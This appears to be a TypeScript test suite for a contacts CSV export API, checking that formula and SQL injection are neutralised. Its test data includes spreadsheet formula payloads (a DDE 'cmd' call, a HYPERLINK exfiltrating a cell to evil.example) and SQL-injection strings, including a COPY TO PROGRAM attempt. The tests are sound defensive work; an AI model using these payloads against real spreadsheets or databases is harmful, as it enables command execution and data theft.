import anyTest, { type TestFn } from 'ava';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { buckets } from '#contracts/buckets.ts';
import { startTestService, type TestService } from '#test/service.ts';
import type { TestTenant } from '#test/template.ts';

const test = anyTest as TestFn<{ service: TestService }>;

const wide = { quota: 1_000 };
const substitutes = {
  buckets: {
    ...buckets,
    contactsCsv: { ...buckets.contactsCsv, ...wide },
    usersCsv: { ...buckets.usersCsv, ...wide },
  },
};

test.beforeEach(async (t) => {
  t.context.service = await startTestService(substitutes);
});
test.afterEach.always((t) => t.context.service?.stop());

const path = '/api/v1/contacts-csv';
const bom = '\ufeff';

const get = (service: TestService, target: string, tenant = service.acme, token = tenant.people.ROLE_ADMIN.readWrite) =>
  service.send(tenant, target, { headers: { 'api-token': token } });

/** Inserts a contact by SQL, past all validation. */
function insert(service: TestService, tenant: TestTenant, values: Record<string, unknown>) {
  const { email = 'x@y.example', ...others } = values;
  const names = ['tenant_id', 'id', 'email', ...Object.keys(others)];
  const parameters = names.map((_, index) => (index === 1 ? 'uuidv7()' : `$${index < 1 ? 1 : index}`));
  return service.sql(`insert into contacts (${names}) values (${parameters})`, [
    tenant.id,
    email,
    ...Object.values(others),
  ]);
}

async function records(service: TestService, query: string, options = {}): Promise<Record<string, string>[]> {
  const { status, text } = await get(service, `${path}?${query}`);
  if (status !== 200) throw new Error(text);
  return parse(text, { columns: true, bom: true, record_delimiter: '\r\n', ...options });
}

test('an export is a dated file with a header row named as in JSON, and rows in the order of the list', async (t) => {
  const { service } = t.context;
  const { status, headers, text } = await get(service, path);
  t.is(status, 200);
  t.is(headers['content-type'], 'text/csv; charset=utf-8; header=present');
  const day = service.clock.now().toISOString().slice(0, 10);
  t.is(headers['content-disposition'], `attachment; filename="contacts-${day}.csv"`);
  t.is(headers['ratelimit-policy'], '"contactsCsv";q=1000;w=60');
  t.true(text.startsWith(`${bom}id,status,email,firstName,lastName,phone,locale,companyName,jobTitle,address.street,`));
  t.true(text.endsWith('\r\n'));
  t.is(text.replaceAll('\r\n', '').search(/[\r\n]/), -1);
  const rows: Record<string, string>[] = parse(text, { columns: true, bom: true });
  const listed = (await get(service, '/api/v1/contacts')).json.member;
  t.deepEqual(
    rows.map(({ id }) => id),
    listed.map(({ id }: { id: string }) => id),
  );
  const [first] = listed;
  t.like(rows[0], { email: first.email, createdAt: first.createdAt, tags: 'donor|press', 'address.city': 'Lyon' });
  t.is(rows[0]?.['address.region'], '');
});

test('an export of contacts and of users says who has agreed to newsletters', async (t) => {
  const { service } = t.context;
  await insert(service, service.acme, { email: 'agreed@y.example', newsletter_opt_in: true });
  await insert(service, service.acme, { email: 'silent@y.example', newsletter_opt_in: false });
  for (const people of ['contacts', 'users']) {
    const { text } = await get(service, `/api/v1/${people}-csv`);
    const rows: Record<string, string>[] = parse(text, { columns: true, bom: true });
    const { member } = (await get(service, `/api/v1/${people}?itemsPerPage=100`)).json;
    t.deepEqual(
      rows.map(({ newsletterOptIn }) => newsletterOptIn),
      member.map(({ newsletterOptIn }: { newsletterOptIn: boolean }) => String(newsletterOptIn)),
    );
  }
});

test('hostile cells come back unchanged, except for an apostrophe before what a spreadsheet would run', async (t) => {
  const { service } = t.context;
  const hostile = [
    '=1+1',
    '+1-1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
  ];
  const harmless = [
    '-12',
    '-1.5',
    '12,5',
    '+33123456789',
    'a "quoted" one',
    'two\r\nlines',
    'two\nlines',
    'comma, semi; tab\t',
    '',
    ' ',
    '"',
    '""',
    '\\.',
    '\\N',
    "'already",
    '👩‍👩‍👧 émoji',
    '\u202eRTL override',
    'منصور رانيا',
    '\ufeffmark',
    'x'.repeat(200_000),
  ];
  for (const [index, lastName] of [...hostile, ...harmless].entries()) {
    await insert(service, service.acme, { last_name: lastName, email: `h${index}@hostile.example` });
  }
  const lastNames = async (query: string, options = {}) =>
    (await records(service, `search=@hostile.example${query}`, options)).map(({ lastName }) => lastName);
  // Some spreadsheets start a new cell after a tab or an end of line.
  const guarded = hostile.map((text) => `'${text.replace(/^\s=/, (start) => `${start[0]}'=`)}`);
  t.deepEqual(await lastNames(''), [...guarded, ...harmless]);
  t.deepEqual(await lastNames('&delimiter=;', { delimiter: ';' }), [...guarded, ...harmless]);
  t.deepEqual(await lastNames('&raw=1'), [...hostile, ...harmless]);
});

test('no part of a cell that a spreadsheet splits would be run', async (t) => {
  const { service } = t.context;
  const expected = {
    "x;=cmd|' /C calc'!A0;": "x;'=cmd|' /C calc'!A0;",
    'a,+1,-2': "a,'+1,'-2",
    'a\t@SUM(A1)': "a\t'@SUM(A1)",
    'one\r\n=1\n-2': "one\r\n'=1\n'-2",
    'a; =1': "a;' =1",
    'a;"=1"': `a;'"=1"`,
    'a;＝1': "a;'＝1",
    ' =1': "' =1",
    '"=1"': `'"=1"`,
    '-1;-2': "'-1;'-2",
    '+33123456789;+33123456780': "'+33123456789;'+33123456780",
    // No part of these begins with a sign.
    'two; and a half - or more, @ noon': 'two; and a half - or more, @ noon'.replace(', @', ",' @"),
    'a;b,c\td\r\ne': 'a;b,c\td\r\ne',
    "a;'=1": "a;'=1",
    'Smith-Jones, A.': 'Smith-Jones, A.',
    '-1,5': '-1,5',
  };
  for (const [index, lastName] of Object.keys(expected).entries()) {
    await insert(service, service.acme, { last_name: lastName, email: `s${index}@split.example` });
  }
  for (const delimiter of [',', ';']) {
    const rows = await records(service, `search=@split.example&delimiter=${delimiter}`, { delimiter });
    t.deepEqual(
      rows.map(({ lastName }) => lastName),
      Object.values(expected),
    );
  }
  const raw = await records(service, 'search=@split.example&raw=1');
  t.deepEqual(
    raw.map(({ lastName }) => lastName),
    Object.keys(expected),
  );
});

test('however a cell is split and trimmed, no part of it begins with a sign, and nothing else of it is changed', async (t) => {
  const { service } = t.context;
  const separators = [';', ',', '\t', '\n', '\r', /[;,\t\n\r]/];
  const runs = /^[\s"\ufeff]*[=+\-@＝＋－＠]/u;
  const isNumber = (text: string) => /^(?:-?\d+(?:[.,]\d+)?|\+\d{6,15})$/.test(text);
  const partsOf = (text: string) => separators.flatMap((separator) => text.split(separator));
  const letters = [...';,\t\n\r =+-@"\'|＝＋－＠\u00a0\u3000\ufeff\u000b12a.'];
  const texts = fc.sample(fc.string({ unit: fc.constantFrom(...letters), minLength: 1, maxLength: 24 }), 2_000);
  await service.sql(
    `insert into contacts (tenant_id, id, email, last_name)
      select $1, uuidv7(), 'g@generated.example', text from unnest($2::text[]) text`,
    [service.acme.id, texts],
  );
  const [rows, raw] = [
    await records(service, 'search=@generated.example'),
    await records(service, 'search=@generated.example&raw=1'),
  ];
  t.is(rows.length, texts.length);
  for (const [index, { lastName: cell = '' }] of rows.entries()) {
    const { lastName: original = '' } = raw[index] ?? {};
    const message = JSON.stringify([original, cell]);
    t.is(cell.replaceAll("'", ''), original.replaceAll("'", ''), message);
    if (isNumber(original)) t.is(cell, original);
    else
      t.false(
        partsOf(cell).some((part) => runs.test(part)),
        message,
      );
    if (!/^[\t\n\r]/.test(original) && !partsOf(original).some((part) => runs.test(part))) t.is(cell, original);
  }
});

test('every column of untrusted text is escaped', async (t) => {
  const { service } = t.context;
  const text = '=1';
  const address = Object.fromEntries(
    ['street', 'street2', 'postalCode', 'city', 'region', 'countryCode'].map((part) => [part, text]),
  );
  const row = {
    first_name: text,
    last_name: text,
    company_name: text,
    job_title: text,
    note: text,
    external_id: text,
    tags: [text],
    address,
  };
  await insert(service, service.acme, { ...row, email: '=1@formula.example' });
  const [cells = {}] = await records(service, 'search=formula.example');
  const { email, ...others } = cells;
  t.is(email, "'=1@formula.example");
  t.false(Object.values(others).includes(text));
  t.is(Object.values(others).filter((value) => value === `'${text}`).length, 13);
});

test('a byte order mark is sent, unless bom=0 or raw=1', async (t) => {
  const { service } = t.context;
  const starts = async (query: string) => (await get(service, `${path}?${query}`)).text.startsWith(bom);
  t.true(await starts(''));
  t.false(await starts('bom=0'));
  t.false(await starts('raw=1'));
  t.true(await starts('raw=1&bom=1'));
});

test('the filters are those of the list, and their values are not interpreted as SQL', async (t) => {
  const { service } = t.context;
  await insert(service, service.acme, { email: 'quote@filter.example', last_name: "O'Brien \\", external_id: "x'y" });
  const count = async (query: string) => (await records(service, query)).length;
  t.is(await count(`search=${encodeURIComponent("o'brien \\")}`), 1);
  t.is(await count(`externalId=${encodeURIComponent("x'y")}`), 1);
  t.is(await count(`search=${encodeURIComponent("' or true --")}`), 0);
  t.is(await count(`search=${encodeURIComponent("\\' or true --")}`), 0);
  t.is(await count(`externalId=${encodeURIComponent("x') to program 'true' --")}`), 0);
  t.is(await count('email=QUOTE@filter.example'), 1);
  t.is(await count('tag=donor'), (await get(service, '/api/v1/contacts?tag=donor')).json.totalItems);
  t.true((await count('tag=donor')) > 0);
  t.is(await count('status=ARCHIVED'), 0);
  t.is(await count('updatedAt[after]=2199-01-01T00:00:00Z'), 0);
  for (const query of ['delimiter=|', 'bom=yes', 'raw=true', 'itemsPerPage=3', 'after=x', 'tag=a|b']) {
    t.is((await get(service, `${path}?${query}`)).status, 400, query);
  }
});

test('an export without matches is a header row', async (t) => {
  const { text } = await get(t.context.service, `${path}?search=no-such-contact`);
  t.is(text.split('\r\n').length, 2);
});
